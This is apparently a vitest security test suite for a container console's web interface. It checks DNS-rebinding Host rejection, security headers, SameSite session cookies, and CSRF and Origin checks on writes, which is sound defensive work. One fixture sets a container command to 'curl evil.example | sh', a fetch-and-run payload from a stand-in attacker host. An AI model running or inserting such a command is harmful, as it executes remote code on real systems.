import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient } from '../../client/client';
import { startConsoleServer } from '../../console/standalone';
import { webService, webTaskDefinition } from '../support/api';
import { useTestStack } from '../support/stack';

/**
 * The console, served by `npm start` (under /console/ on the API's port) and by `tugboat console` (which
 * signs what it forwards), against forged Host headers, requests of other origins and missing tokens.
 */
let proxy: Awaited<ReturnType<typeof startConsoleServer>>;

interface RawAnswer {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** A request exactly as given: node's http client lets a test forge Host, Origin and Sec-Fetch-Site. */
const raw = (
  port: number,
  method: string,
  path: string,
  headers: Record<string, string> = {},
  body?: string,
): Promise<RawAnswer> =>
  new Promise((resolve, reject) => {
    const request = httpRequest(
      { host: '127.0.0.1', port, method, path, headers: { host: `127.0.0.1:${port}`, ...headers } },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        );
      },
    );
    request.on('error', reject);
    request.end(body);
  });

const portOf = (url: string) => Number(new URL(url).port);
const SERVICE = '/clusters/default/services/web';

/** A console page's session cookie and CSRF token, as a browser holds them after loading it. */
const sessionFrom = async (port: number) => {
  const page = await raw(port, 'GET', `/console${SERVICE}`);
  expect(page.status).toBe(200);
  const cookie = String(page.headers['set-cookie']).split(';')[0]!;
  // Every htmx request of the page carries it (hx-headers on body); a rollback form also has it as _csrf.
  const token = /hx-headers="\{&quot;X-CSRF-Token&quot;:&quot;([A-Za-z0-9_-]+)&quot;\}"/.exec(page.body)?.[1];
  expect(token).toBeDefined();
  return { cookie, token: token! };
};

const runTask = JSON.stringify({
  taskDefinition: 'web',
  networkConfiguration: webService().networkConfiguration,
  overrides: { containerOverrides: [{ name: 'web', command: ['sh', '-c', 'curl evil.example | sh'] }] },
});
/** One-off tasks (the service's own come and go with the reconciler). */
const taskCount = async () =>
  (await local.api.get('/clusters/default/tasks')).body.items.filter(
    (task: { serviceName?: string }) => task.serviceName === undefined,
  ).length;

const local = useTestStack({ console: { allowWrites: true } });

beforeAll(async () => {
  for (const image of ['nginx:1.27', 'nginx:1.28'])
    expect((await local.api.post('/task-definitions', webTaskDefinition('web', image))).status).toBe(201);
  expect((await local.api.post('/clusters/default/services', webService('web', 'web:2', 1))).status).toBe(
    201,
  );
  proxy = await startConsoleServer({
    api: apiClient(local.stack.apiUrl),
    allowWrites: true,
    clusters: ['default'],
    port: 0,
    host: '127.0.0.1',
    allowedHosts: ['console.internal'],
  });
});
afterAll(async () => {
  await proxy?.close();
});

describe.each([
  ['npm start, /console/ on the API', () => portOf(local.stack.apiUrl)],
  ['tugboat console', () => proxy.port],
])('%s', (_, port) => {
  it('answers only under its own addresses: a DNS-rebinding Host reads nothing', async () => {
    for (const host of [`127.0.0.1:${port()}`, `localhost:${port()}`]) {
      expect((await raw(port(), 'GET', `/console${SERVICE}`, { host })).status, host).toBe(200);
    }
    for (const host of [`rebind.example:${port()}`, 'rebind.example', `127.0.0.1:${port() + 1}`]) {
      for (const path of [`/console${SERVICE}`, '/console/assets/htmx.min.js', SERVICE]) {
        const answer = await raw(port(), 'GET', path, { host });
        expect(answer.status, `${host} ${path}`).toBe(403);
        expect(answer.body, `${host} ${path}`).toContain('is not an address of this console');
        expect(answer.body).not.toContain('nginx:1.28');
      }
    }
  });

  it('sends every answer with CSP, no framing and a same-origin referrer, and a SameSite=Strict session', async () => {
    for (const path of [`/console${SERVICE}`, '/console/assets/htmx.min.js', '/console/nowhere']) {
      const answer = await raw(port(), 'GET', path);
      expect(answer.headers['content-security-policy'], path).toMatch(
        /default-src 'none'; script-src 'self'; .*frame-ancestors 'none'/,
      );
      expect(answer.headers['content-security-policy']).not.toMatch(/script-src[^;]*unsafe/);
      expect(answer.headers['x-frame-options'], path).toBe('DENY');
      expect(answer.headers['referrer-policy'], path).toBe('same-origin');
      expect(answer.headers['x-content-type-options'], path).toBe('nosniff');
    }
    const page = await raw(port(), 'GET', '/console/');
    expect(String(page.headers['set-cookie'])).toMatch(
      new RegExp(`^tugboat_console_${port()}=[A-Za-z0-9_-]{43}; Path=/; HttpOnly; SameSite=Strict$`),
    );
    expect(page.body).not.toMatch(/<script>|<script [^>]*>[^<]/); // no inline script
  });

  it('rolls back only from its own page: Origin, session cookie and CSRF token, as a form', async () => {
    const { cookie, token } = await sessionFrom(port());
    const origin = `http://127.0.0.1:${port()}`;
    const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString();
    const formType = { 'content-type': 'application/x-www-form-urlencoded' };
    const attempts: [string, Record<string, string>, string, number, RegExp][] = [
      // A cross-site form post: another origin, and SameSite=Strict keeps the cookie away.
      [
        'cross-site form',
        { ...formType, origin: 'http://evil.example' },
        form({ taskDefinition: 'web:1' }),
        403,
        /http:\/\/evil.example may not send/,
      ],
      // Another port of the same host is same-site: its cookie would be sent, its Origin is still not ours.
      [
        'another local port',
        { ...formType, origin: 'http://127.0.0.1:1', cookie },
        form({ taskDefinition: 'web:1', _csrf: token }),
        403,
        /may not send requests here/,
      ],
      [
        'no Origin (curl)',
        { ...formType, cookie },
        form({ taskDefinition: 'web:1', _csrf: token }),
        403,
        /needs an Origin header/,
      ],
      [
        'no token',
        { ...formType, origin, cookie },
        form({ taskDefinition: 'web:1' }),
        403,
        /carries no CSRF token/,
      ],
      [
        'another session',
        { ...formType, origin, cookie: `tugboat_console_${port()}=${'A'.repeat(43)}` },
        form({ taskDefinition: 'web:1', _csrf: token }),
        403,
        /another session(&#39;|')s CSRF token/,
      ],
      [
        'no session',
        { ...formType, origin },
        form({ taskDefinition: 'web:1', _csrf: token }),
        403,
        /no console session/,
      ],
      [
        'text/plain',
        { 'content-type': 'text/plain', origin, cookie },
        form({ taskDefinition: 'web:1', _csrf: token }),
        415,
        /takes application\/x-www-form-urlencoded here, not text\/plain/,
      ],
    ];
    for (const [what, headers, body, status, message] of attempts) {
      const answer = await raw(port(), 'POST', `/console${SERVICE}/rollback`, headers, body);
      expect(answer.status, what).toBe(status);
      expect(answer.body, what).toMatch(message);
    }
    expect((await local.api.get(SERVICE)).body.taskDefinition).toBe('web:2');

    const rolledBack = await raw(
      port(),
      'POST',
      `/console${SERVICE}/rollback`,
      { ...formType, origin, cookie },
      form({ taskDefinition: 'web:1', _csrf: token }),
    );
    expect(rolledBack.status, rolledBack.body).toBe(303);
    expect((await local.api.get(SERVICE)).body.taskDefinition).toBe('web:1');
    expect((await local.api.patch(SERVICE, { taskDefinition: 'web:2' })).status).toBe(200);
  });

  it('refuses a cross-site text/plain POST that would run a task of the sender’s choosing', async () => {
    const before = await taskCount();
    const crossSite: Record<string, string>[] = [
      { 'content-type': 'text/plain', origin: 'http://evil.example' },
      { 'content-type': 'text/plain', 'sec-fetch-site': 'cross-site' },
    ];
    for (const headers of crossSite) {
      const answer = await raw(port(), 'POST', '/clusters/default/tasks', headers, runTask);
      expect(answer.status, JSON.stringify(headers)).toBe(403);
      expect(JSON.parse(answer.body).error.code).toBe('CrossOriginRequest');
    }
    expect(await taskCount()).toBe(before);
  });
});

describe('tugboat console: what it forwards, signed, to the API', () => {
  it('forwards a write only with its page’s Origin, session and token, as JSON', async () => {
    const before = await taskCount();
    // curl, no browser at all: the operator's credentials are not lent to whatever can reach the port.
    const bare = await raw(
      proxy.port,
      'POST',
      '/clusters/default/tasks',
      { 'content-type': 'application/json' },
      runTask,
    );
    expect(bare.status).toBe(403);
    expect(await taskCount()).toBe(before);

    const { cookie, token } = await sessionFrom(proxy.port);
    const own = { origin: `http://127.0.0.1:${proxy.port}`, cookie, 'x-csrf-token': token };
    const plain = await raw(
      proxy.port,
      'PATCH',
      SERVICE,
      { ...own, 'content-type': 'text/plain' },
      '{"desiredCount":2}',
    );
    expect(plain.status).toBe(415);
    const patched = await raw(
      proxy.port,
      'PATCH',
      SERVICE,
      { ...own, 'content-type': 'application/json' },
      '{"desiredCount":2}',
    );
    expect(patched.status, patched.body).toBe(200);
    expect((await local.api.get(SERVICE)).body.desiredCount).toBe(2);
  });

  it('answers a name the operator gave with --allowed-host', async () => {
    const answer = await raw(proxy.port, 'GET', SERVICE, { host: 'console.internal' });
    expect(answer.status).toBe(200);
    expect(JSON.parse(answer.body).serviceName).toBe('web');
  });
});

describe('npm start: the API itself, which has no authentication locally', () => {
  it('still takes requests without an Origin (curl, the SDKs, the CLI) and its own pages’', async () => {
    const port = portOf(local.stack.apiUrl);
    const curl = await raw(
      port,
      'PATCH',
      SERVICE,
      { 'content-type': 'application/json' },
      '{"desiredCount":1}',
    );
    expect(curl.status, curl.body).toBe(200);
    const own = await raw(
      port,
      'PATCH',
      SERVICE,
      { 'content-type': 'application/json', origin: `http://localhost:${port}`, host: `localhost:${port}` },
      '{"desiredCount":1}',
    );
    expect(own.status, own.body).toBe(200);
  });
});
